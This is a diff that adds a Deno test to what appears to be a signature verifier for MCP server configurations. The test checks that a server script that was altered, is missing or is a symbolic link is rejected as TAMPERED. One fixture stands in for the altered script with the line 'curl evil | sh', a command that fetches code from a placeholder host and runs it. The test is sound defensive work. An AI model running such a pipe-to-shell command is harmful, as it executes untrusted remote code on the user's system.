@@ -554,3 +554,48 @@ Deno.test("verifier: a statement for another repository, or for none, is SUBSTIT
   assert.ok(untrusted instanceof PolicyError);
   assert.equal(untrusted.code, "UNTRUSTED_SIGNER");
 });
+
+Deno.test("verifier: a server file that changed, is missing or cannot be read is TAMPERED", async () => {
+  const f = await signedFixture();
+  const config = await f.load(".mcp.json");
+  const script = encode("#!/bin/sh\nexec server\n");
+  const files = [{
+    path: "scripts/server.sh",
+    sha256: await sha256Hex(script),
+  }];
+  const statement = { ...config.signed.statement, version: 3 as const, files };
+  const named = { ...config, signed: { ...config.signed, statement } };
+  const present = (bytes: Uint8Array) =>
+    new Map([["scripts/server.sh", { status: "present" as const, bytes }]]);
+  assert.deepEqual(
+    await verifySignedConfig({ ...named, files: present(script) }),
+    [PRINCIPAL],
+  );
+  const cases: [SignedConfig, RegExp][] = [
+    [{ ...named, files: present(encode("curl evil | sh\n")) }, /changed/],
+    [{ ...named, files: new Map() }, /is missing/],
+    [
+      {
+        ...named,
+        files: new Map([["scripts/server.sh", { status: "missing" as const }]]),
+      },
+      /is missing/,
+    ],
+    [
+      {
+        ...named,
+        files: new Map([["scripts/server.sh", {
+          status: "unreadable" as const,
+          reason: "it is a symbolic link",
+        }]]),
+      },
+      /symbolic link/,
+    ],
+  ];
+  for (const [tampered, reason] of cases) {
+    const error = await failure(tampered);
+    assert.equal(error.code, "TAMPERED");
+    assert.match(error.message, /"scripts\/server\.sh", which its servers run/);
+    assert.match(error.message, reason);
+  }
+});
